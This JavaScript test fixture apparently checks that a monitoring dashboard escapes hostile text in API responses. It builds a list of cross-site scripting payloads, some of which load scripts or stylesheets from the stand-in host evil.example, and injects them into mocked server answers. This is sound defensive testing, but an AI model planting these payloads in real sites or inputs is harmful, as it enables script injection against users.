// Two hundred texts that would like to be markup, script or an address, and answers that are full of them: whoever is scraped,
// writes an alert to the API or a comment to a silence can send any of them.

/** What each would do if it were carried out. Frames would do it to the page around them. */
const harm = "top.brokenInto=1";

const payloads = [
  `<script>${harm}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${harm}>`,
  `<svg onload=${harm}>`,
  `<svg><script>${harm}</script></svg>`,
  `<iframe srcdoc="<script>${harm}</script>"></iframe>`,
  `<iframe src="javascript:${harm}"></iframe>`,
  `<body onload=${harm}>`,
  `<details open ontoggle=${harm}>x</details>`,
  `<input autofocus onfocus=${harm}>`,
  `<video><source onerror=${harm}></video>`,
  `<object data="javascript:${harm}"></object>`,
  `<embed src="javascript:${harm}">`,
  `<math><mi xlink:href="javascript:${harm}">x</mi></math>`,
  `<a href="javascript:${harm}">x</a>`,
  `<form action="javascript:${harm}"><button autofocus>x</button></form>`,
  `<base href="http://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<style>@import 'http://evil.example/x.css';*{display:none}</style>`,
  `javascript:${harm}`,
  `data:text/html,<script>${harm}</script>`,
  `{{constructor.constructor('${harm}')()}}`,
  `\${${harm}}`,
  `https://evil.example/"onmouseover="${harm}`,
];

/** What would end the place in which a text stands. */
const ends = [
  "",
  `">`,
  `'>`,
  `</script></style></title></textarea>-->`,
  `\\"}]);${harm};//`,
  "\u202e",
  "\n\t\u0000",
  "\u200b\u200b",
];

export const hostileTexts = ends.flatMap(end => payloads.map(payload => end + payload));

/** Longer than any window, without a place at which a line could end. */
export const endless = "W".repeat(5000);

/** Fields that the server makes itself: numbers, times, states and names of its own. */
const own = new Set(
  "status state health type kind resultType fingerprint id startsAt endsAt updatedAt activeAt lastEvaluation keepFiringSince decided_at ended_at starts_at ends_at at next_at start end silencedBy inhibitedBy told_at repeat_at next_flush_at value application scrapeInterval scrapeTimeout lastScrape".split(
    " ",
  ),
);

/**
 * The same answer as someone hostile would have it: each text of others has one of the two hundred in front, always the same
 * one before the same text, so that what belongs together still does; label sets have a hostile name, too.
 */
export function spoilt(value, key = "") {
  if (own.has(key)) return value;
  if (typeof value === "string") return `${hostileTexts[numberOf(value)]} ${value}`;
  if (Array.isArray(value)) return value.map(one => spoilt(one, key));
  if (value === null || typeof value !== "object") return value;
  const entries = Object.entries(value).map(([name, one]) => [name, spoilt(one, name)]);
  if (/labels|annotations/i.test(key)) {
    const text = hostileTexts[numberOf(JSON.stringify(value))];
    entries.push([text, text], ["endless", endless], ["url", `javascript:${harm}`]);
  }
  return Object.fromEntries(entries);
}

function numberOf(text) {
  let hash = 7;
  for (const character of text) hash = (hash * 31 + character.codePointAt(0)) % 1_000_003;
  return hash % hostileTexts.length;
}

/** Routes whose answers are spoilt. */
export function spoiltRoutes(routes) {
  const spoil = answer => route =>
    answer({
      request: () => route.request(),
      fulfill: answered => route.fulfill("json" in answered ? { ...answered, json: spoilt(answered.json) } : answered),
    });
  return Object.fromEntries(Object.entries(routes).map(([pattern, answer]) => [pattern, spoil(answer)]));
}

/** Spoils what the server really answers. */
export const spoiltAnswer = async route => {
  const response = await route.fetch();
  await route.fulfill({ response, json: spoilt(await response.json()) });
};
